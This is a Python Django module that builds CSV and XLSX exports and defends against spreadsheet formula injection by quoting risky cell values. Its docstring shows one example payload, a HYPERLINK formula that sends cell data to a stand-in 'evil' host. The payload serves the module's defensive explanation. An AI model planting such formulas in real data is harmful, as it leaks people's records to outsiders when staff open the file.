"""CSV and XLSX exports that a spreadsheet cannot turn against its reader.

A cell that starts with ``= + - @`` (or a tab or carriage return) is read by Excel and LibreOffice
as a formula: ``=HYPERLINK("http://evil/?"&A1)`` in a learner's surname would leak data when staff
open the export. Every text cell goes through ``safe_cell``, which prefixes such values with ``'``
(the OWASP advice); numbers, dates and Decimals are written as they are.

    return csv_response("results.csv", ["СНИЛС", "ФИО"], rows)          # streamed, ';', BOM
    return xlsx_response("results.xlsx", ["СНИЛС", "ФИО"], rows, title="Результаты")
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse
from django.utils.http import content_disposition_header

DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
# Control characters an XLSX file cannot hold (openpyxl refuses them).
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
UTF8_BOM = "\ufeff"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should get it: text that could start a formula is quoted."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "да" if value else "нет"
    if isinstance(value, int | float | Decimal | date | datetime):
        return value
    text = str(value)
    if text.startswith(DANGEROUS_FIRST):
        return "'" + text
    return text


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(
    header: Sequence[Any], rows: Iterable[Sequence[Any]], *, delimiter: str = ";", bom: bool = True
) -> Iterator[str]:
    """The CSV text line by line (for streaming). ``;`` and a UTF-8 BOM suit Russian Excel."""
    writer = csv.writer(_Echo(), delimiter=delimiter, lineterminator="\r\n")
    first = writer.writerow([safe_cell(c) for c in header])
    yield (UTF8_BOM + first) if bom else first
    for row in rows:
        yield writer.writerow([_csv_value(safe_cell(c)) for c in row])


def _csv_value(value: Any) -> Any:
    if isinstance(value, datetime):
        return value.strftime("%d.%m.%Y %H:%M")
    if isinstance(value, date):
        return value.strftime("%d.%m.%Y")
    if isinstance(value, Decimal | float):
        return str(value).replace(".", ",")
    return value


def csv_text(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, delimiter: str = ";", bom: bool = True) -> str:
    return "".join(csv_lines(header, rows, delimiter=delimiter, bom=bom))


def csv_response(
    filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]], *, delimiter: str = ";", bom: bool = True
) -> StreamingHttpResponse:
    response = StreamingHttpResponse(
        (line.encode("utf-8") for line in csv_lines(header, rows, delimiter=delimiter, bom=bom)),
        content_type=CSV_CONTENT_TYPE,
    )
    response["Content-Disposition"] = content_disposition_header(True, filename) or "attachment"
    response["X-Content-Type-Options"] = "nosniff"
    return response


def xlsx_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, title: str = "Лист1") -> bytes:
    """An XLSX workbook with one sheet; written in openpyxl's write-only (streaming) mode."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_sheet_title(title))
    sheet.append([_xlsx_value(c) for c in header])
    for row in rows:
        sheet.append([_xlsx_value(c) for c in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_value(value: Any) -> Any:
    value = safe_cell(value)
    if isinstance(value, datetime) and value.tzinfo is not None:
        from django.utils import timezone

        return timezone.localtime(value).replace(tzinfo=None)
    if isinstance(value, str):
        return _ILLEGAL_XML.sub("", value)
    return value


def _sheet_title(title: str) -> str:
    return re.sub(r"[\[\]:*?/\\]", " ", title)[:31] or "Лист1"


def xlsx_response(
    filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]], *, title: str = "Лист1"
) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(header, rows, title=title), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename) or "attachment"
    response["X-Content-Type-Options"] = "nosniff"
    return response
